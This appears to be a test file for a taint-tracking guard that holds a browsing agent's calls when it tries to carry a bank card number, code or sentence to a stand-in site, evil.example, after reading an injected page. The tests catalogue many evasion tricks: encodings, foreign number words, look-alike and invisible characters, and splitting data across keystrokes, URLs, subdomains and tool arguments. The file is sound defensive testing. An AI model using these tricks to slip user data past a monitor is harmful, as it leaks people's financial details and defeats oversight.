import { describe, expect, it } from 'vitest';

import { CallIdSchema } from '#shared/model/ids.ts';

import {
  at,
  BANK,
  CARD,
  CODE,
  EVIL,
  inPieces,
  PAGE,
  SENTENCE,
  typed,
} from '../../../../testing/crossing-page.ts';
import { outgoingTexts, type OutgoingText } from './outgoing-texts.ts';
import { RunTaint } from './run-taint.ts';

/** Ways in which a model that obeys a page has tried to take a number, a code or a sentence from one site to another. */

const pressed = (key: string, count?: number): readonly OutgoingText[] =>
  outgoingTexts({
    tool: 'key',
    input: { key, ...(count !== undefined && { count }) },
    targets: {},
    unnamed: [],
    currentUrl: `${EVIL}/`,
    clipboard: { content: null, from: 'null' },
  });
const mcp = (toolArgs: unknown): readonly OutgoingText[] =>
  outgoingTexts({
    tool: 'mcp',
    input: { action: 'callTool', instanceId: 'notes', toolName: 'add', toolArgs },
    targets: {},
    unnamed: [],
    currentUrl: null,
    clipboard: { content: null, from: 'null' },
  });

function afterReading(): RunTaint {
  const taint = new RunTaint();
  taint.noteOwnWords('Look up what a kettle costs at evil.example');
  taint.noteRead(BANK, PAGE);
  taint.noteRead(EVIL, 'Evil shop: kettles from 34.50 EUR\nSearch\nYour comment');
  return taint;
}

/** Performs calls in order until one is held; returns whether one was. */
function isHeld(...calls: readonly (OutgoingText | readonly OutgoingText[])[]): boolean {
  const taint = afterReading();
  return calls.some((texts, index) => {
    const call = [texts].flat();
    if (taint.find(CallIdSchema.parse(`c${index}`), call) !== null) return true;
    taint.noteSent(call);
    return false;
  });
}

const chars = (text: string, each: (character: string, code: number) => string): string =>
  [...text].map((character) => each(character, character.charCodeAt(0))).join('');
const say = (text: string, words: string): string =>
  chars(text, (digit) => `${words.split(' ')[Number(digit)]} `);
const digitsFrom = (zero: number): string =>
  chars(CARD, (digit) => String.fromCodePoint(zero + Number(digit)));
const base32 = (text: string): string => {
  const bits = chars(text, (_, code) => code.toString(2).padStart(8, '0'));
  const groups = inPieces(bits, 5).map((group) => Number.parseInt(group.padEnd(5, '0'), 2));
  return groups.map((group) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.charAt(group)).join('');
};
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const reversed = (text: string): string => [...text].toReversed().join('');
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter >= 'a' ? 97 : 65;
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
  });
const inLetters = (text: string, letters: Readonly<Record<string, string>>): string =>
  chars(text, (letter) => letters[letter] ?? letter);
const CYRILLIC = { a: 'а', c: 'с', e: 'е', i: 'і', o: 'о', p: 'р', s: 'ѕ', y: 'у', m: 'м', t: 'т' };
const GREEK = { a: 'α', o: 'ο', i: 'ι', v: 'ν', t: 'τ', u: 'υ', p: 'ρ', k: 'κ', e: 'ε' };
const SMALL = { a: 'ᴀ', c: 'ᴄ', d: 'ᴅ', e: 'ᴇ', m: 'ᴍ', n: 'ɴ', o: 'ᴏ', r: 'ʀ', t: 'ᴛ', w: 'ᴡ' };

describe('a number, in one call', () => {
  it.each([
    ['as it is', CARD],
    ['15 of its 16 digits', CARD.slice(0, 15)],
    ['its last seven digits', CARD.slice(9)],
    ['six of them', `ref ${CARD.slice(4, 10)}`],
    ['with other separators', inPieces(CARD, 3).join('/')],
    [
      'with a letter after each digit',
      chars(CARD, (digit, code) => `${digit}${String.fromCharCode(code + 49)}`),
    ],
    ['with a word after each digit', chars(CARD, (digit) => `${digit} kettle `)],
    [
      'in pieces with text around',
      inPieces(CARD, 4)
        .map((piece) => `item-${piece}-x`)
        .join(' and '),
    ],
    [
      'in counted pieces',
      inPieces(CARD, 4)
        .map((piece, n) => `part ${n + 1}: ${piece}`)
        .join('; '),
    ],
    ['with zero-width characters', [...CARD].join('\u200B\u2060')],
    ['as keycaps', chars(CARD, (digit) => `${digit}\uFE0F\u20E3`)],
    ['in English words', say(CARD, 'zero one two three four five six seven eight nine')],
    [
      'in words without spaces',
      say(CARD, 'zero one two three four five six seven eight nine').replaceAll(' ', ''),
    ],
    ['in words and digits', chars(CARD, (digit) => (digit === '9' ? 'nine' : digit))],
    [
      'in tens',
      'forty-nine twenty-nine eighty-seven twelve sixty-three fifty-four oh eight seventeen',
    ],
    ['in German words', say(CARD, 'null eins zwei drei vier fünf sechs sieben acht neun')],
    ['in German tens', 'neunundvierzig neunundzwanzig siebenundachtzig'],
    ['in French words', say(CARD, 'zéro un deux trois quatre cinq six sept huit neuf')],
    ['in Spanish words', say(CARD, 'cero uno dos tres cuatro cinco seis siete ocho nueve')],
    ['in Italian words', say(CARD, 'zero uno due tre quattro cinque sei sette otto nove')],
    ['in Portuguese words', say(CARD, 'zero um dois três quatro cinco seis sete oito nove')],
    ['in Dutch words', say(CARD, 'nul een twee drie vier vijf zes zeven acht negen')],
    ['in Russian words', say(CARD, 'ноль один два три четыре пять шесть семь восемь девять')],
    ['in Chinese', say(CARD, '零 一 二 三 四 五 六 七 八 九').replaceAll(' ', '')],
    ['in Chinese for banks', say(CARD, '零 壹 贰 叁 肆 伍 陆 柒 捌 玖')],
    ['in Arabic-Indic digits', digitsFrom(0x6_60)],
    ['in Persian digits', digitsFrom(0x6_f0)],
    ['in Devanagari digits', digitsFrom(0x9_66)],
    ['in Bengali digits', digitsFrom(0x9_e6)],
    ['in Thai digits', digitsFrom(0xe_50)],
    ['in full-width digits', digitsFrom(0xff_10)],
    ['in mathematical digits', digitsFrom(0x1_d7_ce)],
    [
      'in circled digits',
      chars(CARD, (digit) => (digit === '0' ? '⓪' : String.fromCodePoint(0x24_5f + Number(digit)))),
    ],
    ['in superscript', chars(CARD, (digit) => '⁰¹²³⁴⁵⁶⁷⁸⁹'.charAt(Number(digit)))],
    ['with letters that look like digits', CARD.replaceAll('0', 'O').replaceAll('1', 'l')],
    ['base64', base64(CARD)],
    ['base64 of base64', base64(base64(CARD))],
    ['base64url after other text', `xy${base64(CARD).replace(/=+$/, '')}`],
    ['base32', base32(CARD)],
    ['base32 in small letters', base32(CARD).toLowerCase()],
    ['hexadecimal', hex(CARD)],
    ['hexadecimal with colons', inPieces(hex(CARD), 2).join(':')],
    ['hexadecimal of base64', hex(base64(CARD))],
    ['binary', chars(CARD, (_, code) => `${code.toString(2).padStart(8, '0')} `)],
    ['character codes', [...CARD].map((digit) => digit.charCodeAt(0)).join(' ')],
    ['HTML entities', chars(CARD, (_, code) => `&#${code};`)],
    ['hexadecimal entities', chars(CARD, (_, code) => `&#x${code.toString(16)};`)],
    ['JSON escapes', chars(CARD, (_, code) => `\\u00${code.toString(16)}`)],
    ['percent-encoded', chars(CARD, (_, code) => `%${code.toString(16)}`)],
    ['reversed', reversed(CARD)],
    ['reversed and base64', base64(reversed(CARD))],
  ])('is held: %s', (_, text) => {
    expect(isHeld(typed(text))).toBe(true);
  });
});

describe('a code, in one call', () => {
  const SPOKEN = 'kilo seven foxtrot nine two two xray quebec eight one mike mike';
  const MORSE = '-.- --... ..-. ----. / ..--- ..--- -..- --.- / ---.. .---- -- --';
  const utf16 = Buffer.from(CODE, 'utf16le');

  it.each([
    ['in the words of radio', SPOKEN],
    ['in Morse code', MORSE],
    ['base58', 'gR9ke3KVTm6JTrqLZZN'],
    ['UTF-16 in hexadecimal', utf16.toString('hex')],
    ['UTF-16 in base64', utf16.toString('base64')],
    ['octal escapes', chars(CODE, (_, code) => `\\${code.toString(8).padStart(3, '0')}`)],
    ['octal codes', [...CODE].map((sign) => sign.charCodeAt(0).toString(8)).join(' ')],
    ['codes without gaps', chars(CODE, (_, code) => String(code).padStart(3, '0'))],
    ['invisible copies', chars(CODE, (_, code) => String.fromCodePoint(0xe_00_00 + code))],
  ])('is held: %s', (_, text) => {
    expect(isHeld(typed(text))).toBe(true);
  });
});

describe('letters, in one call', () => {
  it.each([
    ['a part of a sentence', 'the word is wandering marmalade'],
    ['Cyrillic look-alikes', inLetters(SENTENCE, CYRILLIC)],
    ['Greek look-alikes', inLetters(SENTENCE, GREEK)],
    ['small capitals', inLetters(SENTENCE.toLowerCase(), SMALL)],
    [
      'full-width letters',
      chars(SENTENCE, (letter, code) =>
        code > 32 ? String.fromCodePoint(code + 0xfe_e0) : letter,
      ),
    ],
    [
      'mathematical letters',
      chars(SENTENCE.toLowerCase(), (letter, code) =>
        code > 96 ? String.fromCodePoint(code - 97 + 0x1_d4_1a) : letter,
      ),
    ],
    [
      'squared letters',
      chars(SENTENCE.toUpperCase(), (letter, code) =>
        code > 64 ? String.fromCodePoint(code - 65 + 0x1_f1_70) : letter,
      ),
    ],
    [
      'tags that nobody sees',
      `kettle${chars(SENTENCE, (_, code) => String.fromCodePoint(0xe_00_00 + code))}`,
    ],
    ['marks on each letter', chars(SENTENCE, (letter) => `${letter}\u0301\u0323`)],
    ['zero-width characters', [...SENTENCE].join('\u200D')],
    ['a digit after each letter', chars(SENTENCE, (letter, code) => `${letter}${code % 10}`)],
    [
      'digits that look like letters',
      inLetters(SENTENCE.toLowerCase(), { a: '4', e: '3', i: '1', o: '0', s: '5', t: '7' }),
    ],
    ['rotated', rot13(SENTENCE)],
    ['rotated and reversed', reversed(rot13(SENTENCE))],
    ['base32', base32(SENTENCE)],
    ['base64 with spaces', inPieces(base64(SENTENCE), 4).join(' ')],
    ['a code', `it is ${CODE}`],
    ['a part of a code', 'f9-22xq-81'],
    ['a code in other letters', 'ｋ７ｆ９２２ｘｑ８１ｍｍ'],
    ['a token', 'token: qzxvkjwpbthg'],
    ['eight letters of a token', 'xvkjwpbt'],
    ['a mail address', 'ada.lovelace [@] bank.example'],
  ])('are held: %s', (_, text) => {
    expect(isHeld(typed(text))).toBe(true);
  });
});

describe('in several calls', () => {
  const keys = (text: string): readonly (readonly OutgoingText[])[] =>
    [...text].map((key) => pressed(key));
  const ways: readonly (readonly [string, readonly (OutgoingText | readonly OutgoingText[])[]])[] =
    [
      ['single keys', keys(CARD)],
      ['a code of six digits by keys', keys('883102')],
      ['keys by their codes', [...CARD].map((digit) => pressed(`Digit${digit}`))],
      ['keys with others between', [...CARD].flatMap((digit) => [pressed(digit), pressed('Tab')])],
      [
        'keys that are pressed several times',
        [pressed('8', 2), pressed('3'), pressed('1'), pressed('0'), pressed('2')],
      ],
      ['letters by keys', keys(SENTENCE)],
      ['base64 by keys', keys(base64(CARD))],
      ['reversed by keys', keys(reversed(CARD))],
      ['words by keys', keys('eight eight three one zero two')],
      ['pieces in several fields', inPieces(CARD, 4).map((piece) => typed(piece))],
      ['padded pieces', inPieces(CARD, 3).map((piece) => typed(`item ${piece} please`))],
      ['counted pieces', inPieces(CARD, 4).map((piece, n) => typed(`ref${n + 1}-${piece}`))],
      ['pieces of a sentence', inPieces(SENTENCE, 7).map((piece) => typed(piece))],
      [
        'pieces of a sentence, all of them padded',
        inPieces(SENTENCE, 7).map((piece) => typed(`note: ${piece}; thanks`)),
      ],
      [
        'pieces from the last to the first',
        inPieces(CARD, 4)
          .toReversed()
          .map((piece) => typed(piece)),
      ],
      ['pieces in base64 each', inPieces(CARD, 6).map((piece) => typed(base64(piece)))],
      ['pieces in hexadecimal each', inPieces(CARD, 6).map((piece) => typed(hex(piece)))],
      [
        'pieces in words each',
        inPieces(CARD, 3).map((piece) =>
          typed(say(piece, 'zero one two three four five six seven eight nine')),
        ),
      ],
      [
        'values of several addresses',
        inPieces(CARD, 4).map((piece, n) => at(`${EVIL}/p${n}?x=${piece}`)),
      ],
      [
        'names in the queries of several addresses',
        inPieces(CARD, 5).map((piece) => at(`${EVIL}/?${piece}=1`)),
      ],
      ['paths of several addresses', inPieces(CARD, 4).map((piece) => at(`${EVIL}/item/${piece}`))],
      ['the path of one address', [at(`${EVIL}/${inPieces(CARD, 4).join('/')}`)]],
      ['the fragment of an address', [at(`${EVIL}/#${CARD}`)]],
      ['the user of an address', [at(`https://${CARD}@evil.example/`)]],
      ['a name below the site', [at(`https://${CARD}.evil.example/`)]],
      [
        'names below the site, one after the other',
        inPieces(CARD, 4).map((piece) => at(`https://x${piece}.evil.example/`)),
      ],
      [
        'letters below the site',
        [at(`https://${SENTENCE.toLowerCase().replaceAll(' ', '-')}.evil.example/`)],
      ],
      ['an address and a field', [at(`${EVIL}/?x=4929`), typed('871263')]],
      [
        'arguments of a service',
        [mcp({ a: CARD.slice(0, 5), b: [CARD.slice(5, 9), { c: CARD.slice(9) }] })],
      ],
      ['names of arguments', [mcp({ [CARD]: true })]],
      [
        'the name of a file of a service',
        [mcp({ path: `notes/report-${CARD}.txt`, content: 'hi' })],
      ],
      ['calls of a service', inPieces(CARD, 4).map((piece) => mcp({ n: piece }))],
    ];
  it.each(ways)('is held: %s', (_, calls) => {
    expect(isHeld(...calls)).toBe(true);
  });

  it('at two places is known at each by what went there', () => {
    const other = 'https://other.example';
    expect(isHeld(typed('4929'), typed('8712', other))).toBe(false);
    expect(isHeld(typed('4929'), typed('8712', other), typed('8712'))).toBe(true);
  });

  it('is not asked about again once the person has let it through', () => {
    const taint = afterReading();
    const call = CallIdSchema.parse('c1');
    taint.noteSent([typed('492987')], taint.find(call, [typed('492987')]));
    expect(taint.find(call, [typed('kettle 1')])).toBeNull();
  });

  it('is not held for what stood in pieces before it was read', () => {
    const taint = new RunTaint();
    for (const piece of ['551', '987', '22']) taint.noteSent([typed(piece)]);
    taint.noteRead(BANK, 'Your order 55198722');
    expect(taint.find(CallIdSchema.parse('c1'), [typed('kettle')])).toBeNull();
  });
});
